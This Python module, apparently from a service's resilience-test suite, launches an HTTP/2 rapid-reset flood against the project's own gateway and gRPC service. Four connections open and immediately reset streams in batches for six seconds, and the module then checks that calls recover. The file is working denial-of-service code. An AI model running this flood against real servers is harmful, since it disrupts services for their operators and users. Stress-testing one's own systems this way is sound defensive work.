"""Four connections that open and reset streams for six seconds are survived; three seconds later all is well."""

from __future__ import annotations

import asyncio
import time

from hpack import Encoder
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

from attacks.connections import closed_within, connect
from attacks.target import Address, Target
from attacks.witness import Witness

_CONNECTIONS = 4
_SECONDS = 6.0
_RECOVERY = 3.0
"""Seconds after which calls must work as before: the promise that is tried here, which no event would mark."""

_BATCH = 200
_CANCEL = 8
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def run(target: Target) -> list[str]:
    faults = []
    for place, address in (("gateway", target.gateway), ("service", target.grpc)):
        with Witness(target, ()) as memory:
            sent = asyncio.run(_attack(address, target.key))
            print(f"  {place}: {sum(sent)} streams opened and reset on {_CONNECTIONS} connections")
            time.sleep(_RECOVERY)
            with Witness(target) as after:
                time.sleep(_RECOVERY)  # Meanwhile, the witness calls.
        faults += memory.report() + after.report()
    return faults


async def _attack(address: Address, key: str) -> list[int]:
    return await asyncio.gather(*(_resets(address, key) for _ in range(_CONNECTIONS)))


async def _resets(address: Address, key: str) -> int:
    """Returns how many streams were opened before the time was up or the server closed the connection."""
    # Without entries of a table, so that each stream's frames are the same.
    headers = Encoder().encode(
        [
            (":method", "POST", True),
            (":scheme", "http", True),
            (":authority", "attack", True),
            (":path", "/arouter.v1.ModelService/ListModels", True),
            ("content-type", "application/grpc", True),
            ("te", "trailers", True),
            ("authorization", f"Bearer {key}", True),
        ]
    )
    sent, stream = 0, 1
    try:
        reader, writer = await connect(address)
        writer.write(_PREFACE + SettingsFrame(0).serialize())
        closing = asyncio.create_task(closed_within(reader, _SECONDS))
        while not closing.done():
            frames = b""
            for _ in range(_BATCH):
                opened = HeadersFrame(stream, headers)
                opened.flags.add("END_HEADERS")
                frames += opened.serialize() + RstStreamFrame(stream, _CANCEL).serialize()
                stream += 2
            writer.write(frames)
            async with asyncio.timeout(_SECONDS):
                await writer.drain()
            sent += _BATCH
            await asyncio.sleep(0)
        writer.close()
    except (OSError, TimeoutError):
        pass
    return sent
